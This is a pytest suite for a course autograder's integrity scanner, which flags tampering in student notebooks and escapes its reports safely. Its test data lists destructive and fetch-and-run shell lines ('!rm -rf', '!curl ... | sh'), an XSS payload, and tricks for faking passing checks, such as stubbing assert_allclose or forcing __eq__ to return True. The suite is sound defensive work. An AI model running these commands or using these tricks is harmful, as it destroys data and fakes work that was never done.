"""grader.grading.integrity: each kind of flag on a small snippet, and silence on honest work."""

from __future__ import annotations

import csv
import io
import json
import re
import time
from pathlib import Path

import nbformat
import pytest

from grader.course import capstone
from grader.course.bank import load_bank
from grader.course.contract import ASSIGNMENT, NOTEBOOK
from grader.grading.integrity import KINDS, MAGIC, MAX_DETAIL, MAX_SHOWN, Flag, report, scan, to_csv
from grader.publish.notebooks import grade_id
from grader.publish.sample_class import solutions, students, submission

ROOT = Path(__file__).resolve().parent.parent
RELEASE = nbformat.read(ROOT / "release" / ASSIGNMENT / NOTEBOOK, as_version=4)
SOURCE = nbformat.read(ROOT / "source" / ASSIGNMENT / NOTEBOOK, as_version=4)
ANSWERS = solutions(SOURCE)
CLASS = students([], [])
PERFECT = submission(RELEASE, ANSWERS, CLASS[0])
CAPSTONE_PERFECT = submission(
    nbformat.read(ROOT / "release" / capstone.ASSIGNMENT / capstone.NOTEBOOK, as_version=4),
    solutions(nbformat.read(ROOT / "source" / capstone.ASSIGNMENT / capstone.NOTEBOOK, as_version=4),
              capstone.FUNCTIONS), CLASS[0])


PLOTS_FROM = 2  # the first cells (intro, setup) are locked: never flagged


def with_cell(source: str, nb=PERFECT) -> nbformat.NotebookNode:
    """The notebook with one student cell added at the end."""
    nb = nbformat.from_dict(json.loads(json.dumps(nb)))
    nb.cells.append(nbformat.v4.new_code_cell(source))
    return nb


def flags_of_last_cell(source: str) -> list[tuple[int, str]]:
    nb = with_cell(source)
    found = scan(nb)
    last = len(nb.cells) - 1
    # Aliases hold notebook-wide (cells run in any order): a name the added cell rebinds is also flagged
    # where the release's plot cells use it (quantize=quantize), with the same kind.
    assert all(f.grade_id is None and f.cell_index >= PLOTS_FROM for f in found)
    assert {f.kind for f in found if f.cell_index != last} <= {f.kind for f in found if f.cell_index == last}
    return [(f.line, f.kind) for f in found if f.cell_index == last]


SUSPICIOUS = [
    # reference-import
    ("from grader.course import reference", 1, "reference-import"),
    ("import grader.course.checks as c", 1, "reference-import"),
    ("from grader.course.reference import quantize", 1, "reference-import"),
    ("from grader import *", 1, "reference-import"),
    ("import importlib\nm = importlib.import_module('grader.' + 'reference')", 2, "reference-import"),
    ("m = __import__('grader.course.checks', fromlist=['x'])", 1, "reference-import"),
    ("import grader\nq = grader.course.reference.quantize", 2, "reference-import"),
    ("src = open('/work/grader/reference.py').read()", 1, "reference-import"),
    # monkeypatch
    ("np.testing.assert_allclose = lambda *a, **k: None", 1, "monkeypatch"),
    ("import numpy\nnumpy.allclose = lambda *a, **k: True", 2, "monkeypatch"),
    ("setattr(np, 'array_equal', lambda *a: True)", 1, "monkeypatch"),
    ("del np.isclose", 1, "monkeypatch"),
    ("np.__dict__['isfinite'] = abs", 1, "monkeypatch"),
    ("import builtins\nbuiltins.isinstance = lambda *a: True", 2, "monkeypatch"),
    ("__builtins__['print'] = lambda *a: None", 1, "monkeypatch"),
    ("import sys\nsys.modules['numpy'] = None", 2, "monkeypatch"),
    ("import sys\nsys.stderr = open('log.txt', 'w')", 2, "monkeypatch"),
    ("np = None", 1, "monkeypatch"),
    ("import cupy as np", 1, "monkeypatch"),
    ("def print(*args):\n    pass", 1, "monkeypatch"),
    ("def helper():\n    global np\n    np = None", 2, "monkeypatch"),
    # ipython-hook
    ("get_ipython().input_transformers_cleanup.append(lambda lines: lines)", 1, "ipython-hook"),
    ("get_ipython().input_transformers_post.append(f)", 1, "ipython-hook"),
    ("ip = get_ipython()\nip.events.register('pre_run_cell', f)", 2, "ipython-hook"),
    ("get_ipython().ast_transformers.append(t)", 1, "ipython-hook"),
    ("get_ipython().set_custom_exc((AssertionError,), f)", 1, "ipython-hook"),
    ("import sys\nsys.displayhook = f", 2, "ipython-hook"),
    ("import sys\nsys.excepthook = f", 2, "ipython-hook"),
    ("get_ipython().user_ns['quantize'] = f", 1, "ipython-hook"),
    ("%load_ext some_extension", 1, "ipython-hook"),
    # file-write
    ("open('/etc/hosts', 'w')", 1, "file-write"),
    ("with open('../../gradebook.db', 'ab') as fh:\n    fh.write(b'x')", 1, "file-write"),
    ("open(path, mode='w')", 1, "file-write"),
    ("import os\nos.remove('gradebook.db')", 2, "file-write"),
    ("import os\nos.rename('a', 'b')", 2, "file-write"),
    ("import os\nos.chdir('/')", 2, "file-write"),
    ("import shutil\nshutil.rmtree('..')", 1, "file-write"),
    ("from pathlib import Path\nPath('/tmp/x.py').write_text('x')", 2, "file-write"),
    ("from pathlib import Path\nPath('../numpy.py').write_bytes(b'')", 2, "file-write"),
    ("np.save('/tmp/grades.npy', np.zeros(2))", 1, "file-write"),
    ("%%writefile numpy.py\nraise SystemExit", 1, "file-write"),
    # process
    ("import subprocess\nsubprocess.run(['ls'])", 1, "process"),
    ("import os\nos.system('ls')", 2, "process"),
    ("from os import system\nsystem('ls')", 1, "process"),
    ("import os\nos.popen('ls')", 2, "process"),
    ("import os\nos.fork()", 2, "process"),
    ("import os\nos.kill(os.getpid(), 9)", 2, "process"),
    ("import os\nos._exit(0)", 2, "process"),
    ("import sys\nsys.exit(0)", 2, "process"),
    ("exit()", 1, "process"),
    ("raise SystemExit(0)", 1, "process"),
    ("import multiprocessing", 1, "process"),
    ("import threading\nthreading.Thread(target=f).start()", 1, "process"),
    ("x = 1\n!rm -rf ..", 2, "process"),
    ("files = !ls", 1, "process"),
    ("%%bash\nls", 1, "process"),
    # network
    ("import socket", 1, "network"),
    ("import urllib.request\nurllib.request.urlopen('http://example.com')", 1, "network"),
    ("import requests", 1, "network"),
    ("from http import client", 1, "network"),
    ("import http.client", 1, "network"),
    ("%%time\nimport socket", 2, "network"),
    # eq-override
    ("class A:\n    def __eq__(self, other):\n        return True", 2, "eq-override"),
    ("class B:\n    def __bool__(self):\n        return True", 2, "eq-override"),
    ("class C(float):\n    def __eq__(self, other):\n        return abs(self - other) < 1", 2, "eq-override"),
    ("class D(np.ndarray):\n    def __eq__(self, other):\n        return np.ones(1, bool)", 2, "eq-override"),
    ("class E:\n    __eq__ = lambda self, other: True", 2, "eq-override"),
    ("class F:\n    def __array_function__(self, func, types, args, kwargs):\n        return True", 2,
     "eq-override"),
    ("np.ndarray.__eq__ = lambda *a: True", 1, "eq-override"),
    ("G = type('G', (float,), {'__eq__': lambda s, o: True})", 1, "eq-override"),
    # introspection
    ("import sys\nframe = sys._getframe(1)", 2, "introspection"),
    ("import inspect\ninspect.stack()", 1, "introspection"),
    ("import gc\ngc.get_objects()", 1, "introspection"),
    ("globals()['quantize'] = lambda *a: 3", 1, "introspection"),
    ("globals().update(quantize=f)", 1, "introspection"),
    ("vars()['np'] = None", 1, "introspection"),
    ("def f():\n    return f.__globals__", 2, "introspection"),
    ("exec('import os')", 1, "introspection"),
    # syntax-error
    ("def quantize(x:\n    return x", 1, "syntax-error"),
    ("x = 1\ny = (\n", 2, "syntax-error"),
]


@pytest.mark.parametrize(("source", "line", "kind"), SUSPICIOUS, ids=[s for s, _, _ in SUSPICIOUS])
def test_each_kind_is_flagged_on_its_line(source, line, kind):
    assert (line, kind) in flags_of_last_cell(source)


def test_every_kind_is_covered():
    assert {kind for _, _, kind in SUSPICIOUS} == set(KINDS)


HONEST = [
    "open('notes.txt', 'w').write('my notes')",
    "text = open('data.csv').read()",
    "from pathlib import Path\nPath('out.txt').write_text('x')",
    "%matplotlib inline\nx = 1",
    "%%time\ny = sum(range(10))",
    "np.clip?",
    "with np.errstate(over='ignore', invalid='ignore'):\n    y = np.where(np.ones(2) > 0, 1.0, 0.0)",
    "signal = np.sum(np.ones(3))\nnoise = signal.real",
    "from grader.student import plots\nax = plots.plot_quantization_grid(np.zeros(3), 0.1, 0, 4)",
    "import numpy as np\nimport matplotlib.pyplot as plt\nfig, ax = plt.subplots()",
    "import numpy.testing as npt\nnpt.assert_allclose(1.0, 1.0)",
    "rng = np.random.default_rng(0)\nw = rng.normal(size=10)",
    "class Point:\n    def __eq__(self, other):\n        return self.x == other.x",
    "d = {}\nd['a'] = 1\nd['a'] += 1",
    "plt.rcParams['figure.figsize'] = (6, 4)\nimport matplotlib\nmatplotlib.rcParams['font.size'] = 9",
    "def f(np):\n    np = np + 1\n    return np",
    "def quantize(x, scale, zero_point=0, bits=8, signed=True):\n    return np.rint(x / scale)",
    "got = 3\n_ = quantize",
    "import math\nprint(math.log(2))",
    "text = 'replace'.replace('e', 'a')",
    "",
]


@pytest.mark.parametrize("source", HONEST)
def test_honest_code_is_not_flagged(source):
    assert flags_of_last_cell(source) == []


@pytest.mark.parametrize("nb", [RELEASE, SOURCE, PERFECT], ids=["release", "source", "perfect"])
def test_course_notebooks_are_clean(nb):
    assert scan(nb) == []


@pytest.mark.parametrize("student", CLASS[1:], ids=[s.student_id for s in CLASS[1:]])
def test_sample_class_is_clean(student):
    found = scan(submission(RELEASE, ANSWERS, student))
    assert [f.kind for f in found] == (["syntax-error"] if student.student_id == "broken_syntax" else [])


def test_the_capstones_perfect_submission_raises_no_flag():
    """Its analysis cells load a model, time, copy dicts of weights: none of it is tampering."""
    assert scan(CAPSTONE_PERFECT) == []


@pytest.mark.parametrize("wrong", load_bank(), ids=lambda w: w.name)
def test_wrong_implementations_are_mistakes_not_tampering(wrong):
    perfect = CAPSTONE_PERFECT if wrong.function in capstone.NEW_FUNCTIONS else PERFECT
    nb = nbformat.from_dict(json.loads(json.dumps(perfect)))
    (cell,) = [c for c in nb.cells if grade_id(c) == wrong.function]
    cell.source = wrong.source
    assert scan(nb) == []


def test_flags_in_a_solution_cell_carry_its_grade_id_and_line():
    nb = nbformat.from_dict(json.loads(json.dumps(PERFECT)))
    index = next(i for i, c in enumerate(nb.cells) if grade_id(c) == "softmax")
    lines = nb.cells[index].source.splitlines()
    after_docstring = [i for i, line in enumerate(lines) if '"""' in line][1] + 1
    lines.insert(after_docstring, "    import socket; np.exp = lambda z: z")
    nb.cells[index].source = "\n".join(lines)
    line = after_docstring + 1
    assert scan(nb) == [Flag(index, "softmax", line, "monkeypatch", "assigns numpy.exp"),
                        Flag(index, "softmax", line, "network", "imports socket: network access")]


def test_locked_and_markdown_cells_are_not_scanned():
    nb = nbformat.from_dict(json.loads(json.dumps(PERFECT)))
    test = next(c for c in nb.cells if grade_id(c) == "quantize_seed_example")
    test.source += "\nimport subprocess"
    nb.cells.append(nbformat.v4.new_markdown_cell("import subprocess\n!rm -rf /"))
    assert scan(nb) == []


def test_plain_notebook_dicts_and_list_sources():
    nb = json.loads(json.dumps(with_cell("x = 1\nimport socket\n")))
    nb["cells"][-1]["source"] = ["x = 1\n", "import socket\n"]
    del nb["cells"][-1]["id"]
    assert [(f.line, f.kind) for f in scan(nb)] == [(2, "network")]


def test_one_flag_per_line_and_kind():
    assert flags_of_last_cell("import os; os.system('a'); os.popen('b')\nos.kill(1, 9)") == [
        (1, "process"), (2, "process")]


def test_cell_magics_that_are_not_python_are_not_parsed():
    assert flags_of_last_cell("%%html\n<b>not python (</b>") == []


# -- adversarial lines: the scan stays linear ------------------------------------------------

MB = 1_000_000
ADVERSARIAL_LINES = {
    "spaces": " " * MB,  # the old magic pattern: 82 s for 280,000 spaces, hours for a million
    "spaces then %": " " * MB + "%",
    "spaces then a name then %": " " * MB + "x%",
    "target then spaces": "x =" + " " * MB + "y %",
    "indented target then spaces": " " * MB + "x = " + " " * MB + "y!",
    "name without =": "a" * MB + "%",
    "names and spaces": "a " * (MB // 2) + "!",
    "commas": ", " * (MB // 2) + "%",
    "tabs": "\t" * MB + "=%",
    "help with spaces": " " * MB + "a" * MB + "?" + " " * MB + "b",
    "question marks": "?" * MB + " x",
    "percent signs": "%" * MB,
}


@pytest.mark.parametrize("line", ADVERSARIAL_LINES.values(), ids=ADVERSARIAL_LINES.keys())
def test_a_megabyte_line_is_scanned_in_linear_time(line):
    # A magic first makes the cell fail ast.parse, so it is read line by line as IPython syntax.
    nb = {"cells": [{"cell_type": "code", "metadata": {}, "source": f"%matplotlib inline\n{line}\nx = 1\n"}]}
    start = time.perf_counter()
    scan(nb)
    assert time.perf_counter() - start < 2  # linear: well under a second here; quadratic: hours


def test_the_magic_pattern_still_reads_assignments_and_escapes():
    # Matched after the indentation (see integrity.MAGIC): (prefix, name) of each magic.
    for line, expected in [("x = %time f()", ("%", "time")), ("files = !ls", ("!", "ls")),
                           ("a, b[0] = %sx ls", ("%", "sx")), ("%%bash", ("%%", "bash")), ("!rm -rf /", ("!", "rm"))]:
        found = MAGIC.match(line)
        assert found and found.group(1, 2) == expected, line
    assert MAGIC.match("x = y") is None and MAGIC.match("= %foo") is None


def test_magics_behind_long_indentation_are_still_found():
    nb = with_cell("if True:\n" + " " * 100_000 + "!rm -rf /tmp/x\n")
    found = scan(nb)
    assert any(f.kind == "process" and f.line == 2 for f in found)


def test_flag_details_are_short():
    found = scan(with_cell("get_ipython()." + "a" * 100_000 + "(1)"))
    assert found and all(len(f.detail) <= MAX_DETAIL for f in found)


# -- reports ----------------------------------------------------------------------------------

FLAGS = {
    "alice": [Flag(3, "quantize", 12, "monkeypatch", "assigns numpy.allclose"),
              Flag(140, None, 1, "process", "IPython shell escape: !ls | wc")],
    "bob": [],
    "carol": [Flag(9, "dequantize", 2, "syntax-error", "does not parse: invalid syntax")],
}


def test_report_is_a_markdown_table():
    text = report(FLAGS)
    assert "| student | flags | kinds |" in text
    assert "| alice | 2 | monkeypatch, process |" in text
    assert "| alice | 3 | quantize | 12 | monkeypatch | assigns numpy.allclose |" in text
    assert "| alice | 140 |  | 1 | process | IPython shell escape: !ls \\| wc |" in text
    assert "| carol | 9 | dequantize | 2 | syntax-error |" in text
    assert text.rstrip().endswith("No flags: bob.")


def test_report_of_a_clean_class_and_of_nothing():
    assert report({"bob": []}).rstrip().endswith("No flags: bob.")
    assert "| student |" not in report({"bob": []})
    assert report({}).rstrip().endswith("No submissions scanned.")


HOSTILE_ID = "<img src=x onerror=alert(1)>|`rm -rf`|\n# [click](http://evil) *b* _i_ $x$ &amp; \x1b[31mred\x00\u202e"


def test_report_shows_ids_and_lines_inert():
    text = report({HOSTILE_ID: [Flag(3, "q|`x`<b>", 1, "process",
                                     "IPython shell escape: !curl <http://x> | sh\n\x1b[2J" + "z" * 10_000)],
                   "<b>clean</b>": []})
    rows = [line for line in text.splitlines() if line.startswith("| &lt;img")]
    assert len(rows) == 2  # one per table: the newline in the id did not break its row
    for row in rows:
        bare = re.sub(r"\\.", "", row)  # what is left once every backslash escape is taken out
        assert not set(bare) & set("`*_[]~$<>\x1b\x00\u202e"), bare
        assert bare.count("|") == row.count(" | ") + 2  # the table's own pipes only
        assert len(row) < 8 * MAX_SHOWN
    assert "&lt;img src=x onerror=alert(1)&gt;" in text and "&amp;amp;" in text and "\\x1b" in text
    assert text.rstrip().endswith("No flags: &lt;b&gt;clean&lt;/b&gt;.")


def test_csv_round_trip(tmp_path):
    path = tmp_path / "flags.csv"
    text = to_csv(FLAGS, path)
    assert path.read_text(encoding="utf-8") == text
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [r["student_id"] for r in rows] == ["alice", "alice", "carol"]
    assert rows[1] == {"student_id": "alice", "cell_index": "140", "grade_id": "", "line": "1",
                       "kind": "process", "detail": "IPython shell escape: !ls | wc"}
